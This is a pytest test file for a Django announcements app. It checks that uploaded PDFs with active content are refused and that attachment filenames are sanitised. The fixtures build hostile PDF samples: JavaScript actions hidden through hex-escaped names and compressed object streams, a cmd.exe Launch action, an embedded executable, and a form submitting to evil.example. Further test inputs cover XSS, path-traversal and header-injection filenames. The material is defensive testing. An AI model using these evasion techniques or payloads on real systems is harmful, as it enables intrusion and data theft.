"""PDF attachments are parsed and every object walked: active content is refused however
it is written (escaped names, compressed object streams), documents with links pass, and
a name is sanitised and sent RFC 6266-encoded. Every PDF here is built by tests/pdfs.py."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from notices.attachments import active_content, safe_filename, validate_pdf
from notices.models import Announcement, Attachment
from tests.pdfs import BASE, PLAIN, build_pdf, flate_stream, with_catalog

NEW = reverse("notices:announcement_create")
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"

ACTIVE = {
    "javascript-open-action": build_pdf(with_catalog(b"/OpenAction " + JS_ACTION)),
    "hex-escaped-name": build_pdf(
        with_catalog(b"/OpenAction << /S /J#61vaScript /#4AS (app.alert(1)) >>")
    ),
    "action-in-compressed-object-stream": build_pdf(
        with_catalog(b"/OpenAction 5 0 R", {5: JS_ACTION}), packed=frozenset({1, 5})
    ),
    "escaped-and-compressed": build_pdf(
        with_catalog(b"/OpenAction 5 0 R", {5: b"<< /S /#4Aava#53cript /JS 6 0 R >>"})
        | {6: flate_stream(b"app.alert(1)")},
        packed=frozenset({5}),
    ),
    "javascript-name-tree": build_pdf(
        with_catalog(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", {5: JS_ACTION})
    ),
    "launch": build_pdf(with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "embedded-file": build_pdf(
        with_catalog(
            b"/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>",
            {
                5: b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
                6: flate_stream(b"MZ...", b"/Type /EmbeddedFile "),
            },
        )
    ),
    "form-that-submits": build_pdf(
        with_catalog(
            b"/AcroForm << /Fields [5 0 R] >>",
            {5: b"<< /FT /Btn /T (send) /A << /S /SubmitForm /F (https://evil.example) >> >>"},
        ),
        packed=frozenset({5}),
    ),
    "page-open-event": build_pdf(
        {**BASE, 3: BASE[3].replace(b" >>", b" /AA << /O " + JS_ACTION + b" >> >>")}
    ),
    "xfa-form": build_pdf(with_catalog(b"/AcroForm << /Fields [] /XFA 5 0 R >>", {5: b"[]"})),
}

SAFE = {
    "plain": PLAIN,
    "packed-in-an-object-stream": build_pdf(packed=frozenset({1, 2, 3})),
    "a-web-link-and-opening-at-page-one": build_pdf(
        {
            **BASE,
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            3: BASE[3].replace(b" >>", b" /Annots [5 0 R] >>"),
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20]"
            b" /A << /S /URI /URI (https://example.org/notice) >> >>",
        }
    ),
    # A text search for "/JS" refused this notice, which only talks about it.
    "text-that-mentions-js": build_pdf(
        {
            **BASE,
            4: b"<< /Length 30 >>\nstream\nBT (see /JS and /Launch) Tj ET\nendstream",
        }
    ),
}


def upload(content: bytes, name: str = "notice.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/pdf")


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_a_pdf_with_active_content_is_refused_however_it_is_written(name):
    assert active_content(ACTIVE[name]), name
    with pytest.raises(ValidationError) as refused:
        validate_pdf(upload(ACTIVE[name]))
    assert refused.value.code == "pdf_active_content"


def test_the_compressed_action_is_invisible_to_a_text_search():
    raw = ACTIVE["action-in-compressed-object-stream"]
    assert b"JavaScript" not in raw and b"/JS" not in raw


@pytest.mark.parametrize("name", sorted(SAFE))
def test_an_ordinary_pdf_passes(name):
    assert active_content(SAFE[name]) == []
    validate_pdf(upload(SAFE[name]))


@pytest.mark.parametrize(
    "content",
    [PLAIN[:200] + b"\n%%EOF\n", b"%PDF-1.7\n" + b"\0" * 500 + b"\n%%EOF\n"],
    ids=["cut-short", "garbage"],
)
def test_a_broken_pdf_is_refused_as_incomplete(content):
    with pytest.raises(ValidationError) as refused:
        validate_pdf(upload(content))
    assert refused.value.code == "not_a_pdf"


def test_a_pdf_locked_with_a_password_is_refused_as_uncheckable():
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PLAIN)))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    locked = io.BytesIO()
    writer.write(locked)
    with pytest.raises(ValidationError) as refused:
        validate_pdf(upload(locked.getvalue()))
    assert refused.value.code == "pdf_encrypted"


def test_a_refused_pdf_keeps_the_announcement_unwritten_and_says_why(client, steward):
    client.force_login(steward)
    data = {"title": "停水通知", "body": "周三停水", "audience": "estate", "publish_at": ""}
    response = client.post(NEW, {**data, "pdfs": [upload(ACTIVE["hex-escaped-name"], "通知.pdf")]})
    assert response.status_code == 200
    assert "含有脚本或嵌入文件" in str(response.context["form"].errors["pdfs"])  # in Chinese
    assert not Announcement.objects.exists()


# --- Names -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("<img src=x onerror=alert(1)>.pdf", "img src_x onerror_alert(1).pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\停水通知（3栋）.pdf", "停水通知（3栋）.pdf"),
        ('a"b\r\nContent-Type: text;.pdf', "a_b_Content-Type_ text.pdf"),
        ("\u202egpj.pdf", "gpj.pdf"),
        ("...", "file"),
    ],
)
def test_names_are_sanitised(typed, kept):
    assert safe_filename(typed) == kept


@pytest.fixture
def stored_with_a_raw_name(steward, community, resident, settings, tmp_path):
    """An attachment stored before names were sanitised."""
    from notices import services

    announcement = services.publish(author=steward, community=community, title="通知", body="…")
    attachment = Attachment(
        announcement=announcement,
        kind=Attachment.Kind.PDF,
        original_name="<img src=x onerror=alert(1)>停电.pdf",
        size=len(PLAIN),
        state=Attachment.State.READY,
    )
    attachment.file.save("stored.pdf", upload(PLAIN), save=False)
    attachment.save()
    return attachment


def test_the_download_sends_a_sanitised_rfc_6266_name(client, resident, stored_with_a_raw_name):
    attachment = stored_with_a_raw_name
    client.force_login(resident)
    response = client.get(
        reverse("notices:attachment", args=[attachment.announcement_id, attachment.pk])
    )
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition == (
        "attachment; filename*=utf-8''img%20src_x%20onerror_alert%281%29_%E5%81%9C%E7%94%B5.pdf"
    )
    assert "<" not in disposition and '"' not in disposition
